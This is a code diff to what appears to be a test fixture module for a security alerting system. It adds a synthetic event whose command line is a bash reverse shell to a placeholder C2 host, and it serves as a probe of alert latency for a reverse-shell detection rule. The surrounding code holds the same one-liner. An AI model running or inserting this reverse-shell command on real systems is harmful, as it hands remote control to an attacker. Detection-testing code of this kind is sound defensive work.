@@ -22,6 +22,36 @@ def _proc(process: str, cmdline: str, uid: int = 1000, **extra: Any) -> dict[str
     return {"process": process, "cmdline": cmdline, "uid": uid, **extra}
 
 
+def reverse_shell_event(event_id: str, tenant: str, sandbox_id: str, ts: int) -> dict[str, Any]:
+    """One whole event the default pack alerts on at once (AP-PROC-REVSHELL): a probe
+    of alert latency (benchmarks/alert_latency.py, tests/integration/test_fairness.py).
+    Each from a sandbox of its own, so none is suppressed as a repeat."""
+    return {
+        "event_id": event_id,
+        "ts": ts,
+        "tenant": tenant,
+        "sandbox_id": sandbox_id,
+        "seq": 1,
+        "category": "process",
+        "action": "exec",
+        "level": "notice",
+        "outcome": "success",
+        "actor": {
+            "user": "agent",
+            "uid": 1000,
+            "pid": 7,
+            "ppid": 1,
+            "process": "bash",
+            "cmdline": f"bash -c 'bash -i >& /dev/tcp/{C2}/4444 0>&1'",
+        },
+        "object": "/usr/bin/bash",
+        "bytes": None,
+        "attributes": {},
+        "prev_hash": None,
+        "hash": None,
+    }
+
+
 def reverse_shell() -> list[Step]:
     shell = f"bash -c 'bash -i >& /dev/tcp/{C2}/4444 0>&1'"
     return [
